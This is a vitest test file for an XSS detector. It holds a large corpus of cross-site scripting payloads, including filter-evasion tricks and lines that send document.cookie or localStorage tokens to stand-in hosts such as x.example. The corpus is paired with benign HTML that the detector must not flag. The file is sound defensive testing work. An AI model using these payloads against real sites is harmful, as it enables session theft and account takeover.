import { CONFIDENCE_RANK, type Confidence } from '@bulkhead/core';
import { describe, expect, it } from 'vitest';
import { decodedForm } from './forms.ts';
import { scan } from './scan.ts';
import { detectIn } from './testing/detect-in.ts';
import { xss } from './xss.ts';

/** The surer of what is said of the value and of its decoded form, as in production. */
function judged(value: string): Confidence | undefined {
  const candidate = scan(value);
  const form = candidate && decodedForm(candidate);
  const [raw, decoded] = [detectIn(xss, value), form && detectIn(xss, form.text)];
  if (raw === undefined || decoded === undefined) return raw ?? decoded;
  return CONFIDENCE_RANK[decoded] > CONFIDENCE_RANK[raw] ? decoded : raw;
}

/** An article around a piece of markup. */
function inArticle(markup: string): string {
  const paragraph = '<p>The harbour wakes early, and so do those who write about it for a living.</p>\n';
  return paragraph.repeat(6) + markup + paragraph.repeat(6);
}

const SURE = [
  // Elements that run what they hold or name
  '<script>alert(1)</script>',
  '<ScRiPt src=//x.example/a.js>',
  '"><script>alert(1)</script>',
  '<script>fetch("//x.example/?"+document.cookie)</script>',
  '<script\n>top["al"+"ert"](1)</script>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<svg><script href=data:,alert(1) />',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<script type=module>import "//x.example/a.js"</script>',
  '<object data="data:text/html;base64,AAAA">',
  '<embed src="javascript:alert(1)">',
  '<iframe src="javascript:alert(1)">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<form><button formaction=javascript:alert(1)>x',
  '<form action="javascript:alert(1)"><input type=submit>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<div style="width:expression(alert(1))">',
  '<div style="width:ex\\70 ression(alert(1))">',
  '<style>@import "javascript:alert(1)";</style>',
  '<svg><animate attributeName=href values="javascript:alert(1)" />',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  // Handlers
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert`1`>',
  '<svg\fonload\v=\talert(1)',
  '<body onpageshow=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<x onpointerrawupdate=alert(1)>',
  '<video><source onerror="document.location=\'//x.example/\'+document.cookie">',
  '<a onclick=alert&lpar;1&rpar;>x',
  '<input autofocus onfocus=&#97lert(1)>',
  '<b onmouseover={alert(1)}>x</b>',
  '<img alt="a>b" src=x onerror=top[/al/.source+/ert/.source](1)>',
  '<img src="x" onerror="a=alert;a(1)" /',
  '</p onmouseover=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  // Addresses
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" \x01javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#0000106avascript&colon;%61lert(1)">x</a>',
  '<a href="vbscript:MsgBox 1">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'javascript:alert(document.domain)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  '[click](javascript:alert(1))',
  // Attributes behind a quote
  '" onfocus=alert(1) autofocus x="',
  "' onmouseover='alert(1)",
  'x` onclick=alert(1) `',
  '"/onmouseenter="confirm(1)',
  // Script behind a string
  "';alert(1)//",
  '"-alert(1)-"',
  "\\');alert(1);//",
  "'+[].constructor.constructor('alert(1)')()+'",
  '");document.location="//x.example/"+document.cookie;//',
  '*/alert(1)/*',
  '[][(![]+[])[+[]]]',
  '$=~[];$={___:++$,$$$$:(![]+"")[$]}',
  '<script>/*\nexport let a\n*/alert(1)</script>',
  '<script type="MODULE">export let a = alert(1)</script>',
  '<script type="Module">import a from "//evil.example/a.js"</script>',
];

const LIKELY = [
  '<img/src=a/onerror=run',
  '<video/src=a/onerror=run>',
  '<img src="//c.example?',
  "<input type=image src='https://c.example/p?q=",
  '<iframe srcdoc="<p>x</p>">',
  '"><iframe src=//x.example/>',
  '<base href=//x.example/>',
  '<link rel=stylesheet href=//x.example/a.css>',
  '<meta http-equiv=refresh content="0;url=//x.example/">',
  '<meta charset=utf-7>+ADw-script+AD4-',
  '<xml id=a></xml><span datasrc=#a datafld=b dataformatas=html></span>',
  '<div style="-moz-binding:url(//x.example/a.xml#b)">',
  '<* onload=alert(1)>',
  '"><b>here</b>',
  '</title><b>here</b>',
  'alert(1)',
  'confirm`1`',
  'eval(atob("YWxlcnQoMSk="))',
  'top[8680439..toString(30)](1)',
  "self['\\x61lert'](1)",
  '("\\141\\154\\145\\162\\164")["x"]("\\141\\154")',
  'import("//x.example/a.js")',
  'setTimeout`alert(1)`',
  '[1].find(alert)',
  'onerror=alert;throw 1',
  '${alert(1)}',
  'data:text/html;base64,PHNjcmlwdD4=',
  'x:expression(alert(1))',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\xbcscript\xbealert(1)\xbc/script\xbe',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#0000060',
  'alert&#x28;1&#x29',
  'document/*a*/./*b*/cookie',
  'document["cookie"]',
  "');function a(b){}alert(1)//",
  'o<x>nfocus=alert<x>(1)//',
  'alert(1)"><br>',
  'top[\\"al\\"+\\"ert\\"](1)',
  '< script >alert(1)</ script >',
  // What a framework in the page runs
  '<p @click="alert(1)">x</p>',
  '<p v-if="_c.constructor(\'alert(1)\')()">x</p>',
  '<div ng-init="constructor.constructor(\'alert(1)\')()">',
  '<div x-init="alert(1)">',
  '<div hx-on:click="alert(1)">',
  '<div hx-vals="js:{a:alert(1)}">',
  '<div _="on load alert(1)">',
  '<b (click)="alert(document.domain)">x</b>',
  '<div data-bind="html: alert(1)">',
  '<svelte:body on:load={alert(1)}>',
  '<output name=getElementById>',
  // Functions under other names, names in pieces
  'f=eval,g=unescape,f(g(location.hash))',
  'a=[0,alert,0][1],a(1)',
  'x=.5.eval,x(name)',
  "p=1?'ev':0;q=1?'al':0;p=p+q;r=0[p];r(name)",
  "0[('ev')+(z=('al'),z)](z+'ert(0),')",
  'location.assign(1?name+1:x)',
  'document.body.innerHTML=location.hash',
  '$("#a").html(decodeURIComponent(location.hash))',
  "b.style.setExpression('a','alert(1)')",
  '([,д,,,,ж]=[]+{},[з,и,к,л,,м,н,о,,,п]=[!!д]+!д+д.д)[т=ж+д+п+о+з+и+к+ж+з+д+и][т](м+н+л+и+з+"(1)")()',
];

const HONEST = [
  '<body><pre>Harbour</pre>\n<script>\nconst call = function () {\n  alert("The tide is high");\n};\nharbour.begin(call, { tides: true });\n</script></body>',
  '<link\nhref="https://cdnjs.cloudflare.com/ajax/libs/tides/6.5.1/css/all.min.css"\nrel="stylesheet"\n/>',
  '<p>Chart:</p><object type="image/svg+xml" data="charts/tides.svg">Tides</object>',
  'Videos\n\n`List <https://tides.example/list>`_.\n\n<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/rAbCdEfG123" allowfullscreen></iframe>',
  '<img/src=a/alt=run>',
  '<img src="//c.example/a.png"',
  '<a href="https://video.example/watch?v=',
  '<h2 id="attributes">Attributes</h2>',
  '<p>1</p><iframe src="#map" class="view"></iframe>',
  '<b>bold</b>',
  '<p>one</p>\n<p>two</p>',
  '<a href="https://example.com/?a=1&once=2">link</a>',
  '<a href="javascript:void(0)">menu</a>',
  '<a href="mailto:a@example.com">mail</a>',
  '<img src="a.png" alt="on the hill">',
  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
  '<img alt="JavaScript: the good parts" src=a.png>',
  '<a title="JavaScript: alert(1) explained" href="/a">x</a>',
  '<table cellpadding="0" style="font-family:Arial;color:rgb(1,2,3)"><tr><td>1</td></tr></table>',
  '<!--[if mso]><v:rect xmlns:v="urn:schemas-microsoft-com:vml" fill="true"></v:rect><![endif]-->',
  '<style>v\\:* {behavior:url(#default#VML);} a:hover{color:red}</style>',
  '<meta charset="utf-8"><meta name="viewport" content="width=device-width">',
  '<base target="_blank">',
  '<svg viewBox="0 0 1 1"><path d="M0 0h1v1z"/><use xlink:href="#a"/></svg>',
  '<svg><animate attributeName="opacity" values="0;1" dur="1s"/></svg>',
  '<iframe width="560" height="315" src="https://www.example.com/embed/abc" allowfullscreen></iframe>',
  '<script type="application/ld+json">{"@type":"Article","name":"alert(1)"}</script>',
  "<script>\nimport Note from './note.svelte'\n</script>\n# Notes",
  '<rss version="2.0"><channel><item><title>A</title><link>https://example.com</link></item></channel></rss>',
  '<order online="true" onhand="3" once="1"/>',
  '<Button onClick={handle}>Send</Button>',
  '<Button onClick={() => send(id)}>Send</Button>',
  '<button data-onload="init()">x</button>',
  '<li v-for="a in b" @click="open(a)">{{ a.name }}</li>',
  'a < b and c > d',
  '<3 you',
  'if (x<y && z>w)',
  'for (i = 0; i < script.length; i++)',
  'Use the <script> tag to load it, and <style> for the rest.',
  'javascript: the good parts',
  'JavaScript: Basics of JavaScript Language',
  'the onclick handler and the onload event',
  'once = 1',
  '<p>is online = yes</p>',
  'data: 5 rows, 3 columns',
  'please confirm (or cancel)',
  'call alert(1) to show it',
  'alert: door open (rear)',
  'my window is open (again)',
  'set the location = Paris, please',
  'style="color:red"',
  'facial expression (neutral)',
  'He said "alert (red)"; we left',
  'Use &lt;script&gt; to write a tag safely',
  '&lt;p&gt;one&lt;/p&gt;',
  // Programs and their strings, attributes of templates
  "const url = 'https://a.example/m';\nif (navigator.sendBeacon) {\n  navigator.sendBeacon(url, body);\n} else {\n  fetch(url, { body });\n}",
  "$('button').on('click', (e) => {\n  window.location.href = '/some/new/link'\n})",
  '$("p").on("click", function () {\n  alert("The paragraph was clicked.");\n});',
  "window.localStorage.setItem('theme', theme)\nconst login = () => {\n  visit('/a')\n}",
  "cy.prompt(['open the page', 'press the button'])",
  '<button onclick="toggle()">Menu</button>'.repeat(20),
  '<li @click="open(item)" :class="{ on: item.location }">x</li>',
  '<div x-data="{ open: false }" @click.outside="open = false">x</div>',
  '<body id="body"><a name="cookies"></a>',
  'array of [a][] or [b](#c), see [][d]',
  "items1['name'] and (see 4 [note])",
  'JavaScript: <a href="js/switch.js" type="text/javascript">switch.js</a>',
  'Array<string>',
  'Map<string, List<Document>>',
  'name <user@example.com>',
  '5 << 2',
  '[text][] and ![](image.png)',
  'Open `<img src=x onerror=alert(1)>` in the old version, and you will see what the report means.',
  'To try it, put this into a page of your own and load it:\n\n```html\n<script>alert(1)</script>\n```\n\nThen reload.',
  '<script>\n  export let items;\n</script>\n{#each items as x}<p>{x}</p>{/each}',
];

it.each(SURE)('%j runs', (value) => {
  expect(judged(value)).toBe('high');
});

it.each([
  '<script>\nconst call = function () {\n  alert("The tide is high");\n};\ncall();\nharbour.begin(1, 2);\n</script>',
  '<script type="module">\nimport tides from \'https://cdn.jsdelivr.net/npm/tides@11/dist/tides.mjs\';\n</script>',
  '<script type="module">\nimport tides from \'<CDN_URL>/tides@<VERSION>/dist/tides.mjs\';\n</script>',
  '# A recording of the tides\n\nThis one shows what the harbour looks like when the water is at its lowest:\n\n<script src="https://player.example/a/1.js" async></script>\n',
])('%j alerts and is not blocked', (value) => {
  expect(judged(value)).toBe('medium');
});

it.each([
  '<script>const call = function () { alert(document.domain); }; call(); harbour.begin(1, 2);</script>',
  '<script>window.call = function () { alert("a b"); }; eval(name); harbour.begin(1, 2);</script>',
  '<script type="module">import \'https://tides.example/a.mjs\'</script>',
  'What a nice recording of the tides this is, and how low the water is:\n\n<script src="https://player.example/a/1.js" async></script>\n',
])('%j is blocked', (value) => {
  expect(judged(value)).toBe('high');
});

it.each(LIKELY)('%j would run where it fits', (value) => {
  expect(judged(value)).toMatch(/medium|high/);
});

it.each(HONEST)('%j does not', (value) => {
  expect([undefined, 'low']).toContain(judged(value));
});

describe('an article', () => {
  it.each([
    '<iframe src="https://video.example/embed/1"></iframe>',
    '<link rel="stylesheet" href="https://fonts.example/css?family=A">',
    '<style>@import url(https://fonts.example/a.css);</style>',
    '<a href="#" onclick="return false">x</a>',
    '<a href="https://example.com" onclick="window.open(this.href)">x</a>',
    '<object width="425"><embed src="https://video.example/v/1"></object>',
  ])('may hold %j', (markup) => {
    expect([undefined, 'low']).toContain(judged(inArticle(markup)));
  });

  it.each([
    '<script>alert(1)</script>',
    '<script src=//x.example/a.js></script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<p style="x:expression(alert(1))">',
    '<iframe src="javascript:alert(1)"></iframe>',
  ])('may not hold %j', (markup) => {
    expect(judged(inArticle(markup))).toMatch(/medium|high/);
  });
});

/** A whole page around a piece of markup. */
function inPage(markup: string): string {
  const section =
    '<section><h2>Tides</h2><p>High water at noon, low water at six, and a walk in between.</p></section>\n';
  return `<!doctype html>\n<html><head><title>Harbour</title></head><body>\n${section.repeat(8)}${markup}</body></html>`;
}

const TAG_SNIPPET =
  '<script async src="https://www.googletagmanager.com/gtag/js?id=G-ABC"></script>\n<script>window.dataLayer = window.dataLayer || [];\n' +
  "function gtag(){dataLayer.push(arguments);} gtag('js', new Date()); gtag('config', 'G-ABC');</script>";

describe('a page', () => {
  it.each([
    '<script src="assets/js/app.js" defer></script>',
    '<script src="../../js/app.js?v=2"></script>',
    '<script src="https://static.harbour.example/app.min.js"></script>',
    '<script src="https://cdn.jsdelivr.net/npm/chart.js"></script>',
    '<script>window.state = JSON.parse("{\\u0022a\\u0022:1}"); document.querySelector("#a").innerHTML = state.a;</script>',
    '<script>document.getElementById("open").onclick = function () { alert("The gate is open until nine."); };</script>',
    '<script>function go(form) { if (!form.name.value) { alert("Please tell us your name."); return false; } send(form); }</script>',
    '<script>navigator.sendBeacon(url, JSON.stringify(metric));</script>',
    '<script>window.location.href = "/tides/today";</script>',
    '<form onsubmit="return confirm(\'Send it now?\')"></form>',
    "<a href=\"#\" onclick=\"window.open('https://www.facebook.com/sharer', '', 'width=500'); return false\">share</a>",
    '<a href="javascript:window.open(\'https://tides.example/map\')">map</a>',
    '<img src="a.png" onerror="this.src=\'https://static.harbour.example/none.png\'">',
    '<script></script>',
    TAG_SNIPPET,
  ])('may hold %j', (markup) => {
    expect([undefined, 'low']).toContain(judged(inPage(markup)));
  });

  it.each([
    '<script>alert(1)</script>',
    '<script>alert(document.domain)</script>',
    '<script>new Image().src="//x.example/?"+document.cookie</script>',
    '<script>fetch("https://x.example/?c="+localStorage.token)</script>',
    '<script>eval(atob("YWxlcnQoMSk="))</script>',
    '<script>top["al"+"ert"](1)</script>',
    '<script>location="https://x.example/"</script>',
    '<script src="//127.0.0.1:8000/a.js"></script>',
    '<script src="https://user@x.example/a.js"></script>',
    '<script src="data:,alert(1)"></script>',
    '<script src="https://www.google.com/complete/search?client=chrome&jsonp=alert(1)"></script>',
    '<img src=x onerror=alert(1)>',
    '<body onload="location=name">',
    '<a href="javascript:alert(document.cookie)">x</a>',
  ])('may not hold %j', (markup) => {
    expect(judged(inPage(markup))).toMatch(/medium|high/);
  });

  it('is one whose scripts use a name of the browser for their own', () => {
    expect([undefined, 'low']).toContain(judged(inPage('<script>shop.dialog.confirm(); start("a", 1)</script>')));
    expect([undefined, 'low']).toContain(judged(inPage('<script>var a = {"language": {"value": "de"}};</script>')));
  });

  it('is not made by its first tag alone', () => {
    expect(judged('<html><script src=//x.example/a.js></script>')).toBe('high');
  });

  it('is none for the length of its prose', () => {
    expect(judged(`${'tide '.repeat(400)}<script src=https://x.example/a.js></script>`)).toMatch(/medium|high/);
  });
});

describe('a piece of a page', () => {
  it.each([
    '<script>start(1)</script>',
    '<script src="bootstrap.js"></script>',
    '<script src="https://code.jquery.com/jquery.min.js"></script>',
    '<body onload="start()">',
  ])('alerts, and is not sure: %j', (value) => {
    expect(judged(value)).toBe('medium');
  });

  it.each([
    '<button onclick="shop.add(12)">Buy</button>',
    '<embed src="./map.pdf" />',
    '<script></script>',
    '<script>var tide = 1;</script>',
    '<a onclick="count.push([&#34;a&#34;,&#34;b&#34;])">x</a>',
    '<button onclick="return!1">x</button>',
    '<script defer></script>',
    '<link rel="canonical" href="/a">\n<link rel="stylesheet" href="https://tides.example/css/a.css?v=1">',
    '<div>x</div>\n<script type="module">\nimport tide from "./tide.js";\nfunction draw() { tide.draw("#a", {zoom: 4}); }\n</script>',
    '<script>// the map stands here one day\n</script>',
    '<div id="map"></div>\n<script src="js/map.js"></script>',
    '<div id="map"></div>\n<script>\n  var map = Tides.draw(document.getElementById("map"), {zoom: 4, colour: "blue"});\n</script>',
    '  <h1>Editor</h1>\n  <script>function open() { editor.focus(); }\nwindow.editor = Editor.from("#text", {lines: true});</script>',
    "<a onclick=\"try{count('a', 'b')}catch(e){}\">x</a>",
    'Put `map` into a page:\n\n<iframe width="100%" height="400" src="https://maps.example/embed/1"></iframe>',
  ])('passes: %j', (value) => {
    expect([undefined, 'low']).toContain(judged(value));
  });

  it.each([
    '<script>not a program</script>',
    '<div></div><script>fetch("/account", {method: "POST", body: new URLSearchParams({email: "a@b.example"})})</script>',
    '<div></div><script>var a = [][(![]+[])[+[]]], b = a(window), c = b[a], d = c(1, 2, 3);</script>',
    '<form id="attributes"></form>',
    '<iframe src="/account#x"></iframe>',
    '<link rel="stylesheet" href="https://c.example/a.css">',
    '"><link rel="a"><link rel="stylesheet" href="https://c.example/a.css">',
    '<div></div><script type="module">import "//c.example/a.js"; start(1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11);</script>',
    '"><script></script>',
  ])('does not pass: %j', (value) => {
    expect(judged(value)).toMatch(/medium|high/);
  });

  it.each([
    '"><script>start(1)</script>',
    '"><script src="a.js"></script>',
    '<script>alert(1)</script>',
    '<script src="//x.example/a.js"></script>',
    '<img src=x onerror=alert(1)>',
  ])('is sure of %j', (value) => {
    expect(judged(value)).toBe('high');
  });
});

describe('what is given out to be pasted', () => {
  it.each([
    '<blockquote class="twitter-tweet"><p>Low water</p></blockquote>\n<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>',
    TAG_SNIPPET,
    '<iframe src="https://video.example/embed/1" frameborder="0"></iframe>',
    '<div class="video">\n<iframe src="//video.example/embed/{{ id }}" allowfullscreen></iframe></div>',
    '{% if site.comments %}\n<script src="{{ site.url }}/comments.js"></script>\n{% endif %}',
    "{%- if a %}<script>var id = '{{ page.id }}'; start(id);</script>{% endif %}",
  ])('passes: %j', (value) => {
    expect([undefined, 'low']).toContain(judged(value));
  });

  it.each([
    '"><script src="https://platform.twitter.com/widgets.js"></script>',
    '<script src="https://www.googletagmanager.com/gtag/js?id=G-1&callback=alert(1)"></script>',
    '{% if a %}<script>alert(1)</script>{% endif %}',
    '{{ a }}<script src=//x.example/a.js></script>',
  ])('does not: %j', (value) => {
    expect(judged(value)).toMatch(/medium|high/);
  });
});

describe('a text that was made to be read for long', () => {
  const PADDINGS = ['<set to=j&#58;>', '<a href=j&colon;>', '<script>a b', '<iframe src=data:x>', '<b x>'];
  it.each(PADDINGS)('of %j hides nothing behind it', (piece) => {
    const padding = piece.repeat(Math.ceil(3900 / piece.length)).slice(0, 3900);
    expect(judged(`${padding}><img src=x onerror=alert(1)>`)).toMatch(/medium|high/);
  });

  it('is none for being a page', () => {
    const row = '<tr style="font-size:14pt;margin:0 (a)"><td valign="top"><b>1</b></td><td>a <= b</td></tr>\n';
    expect(judged(row.repeat(44))).toBeUndefined();
  });
});
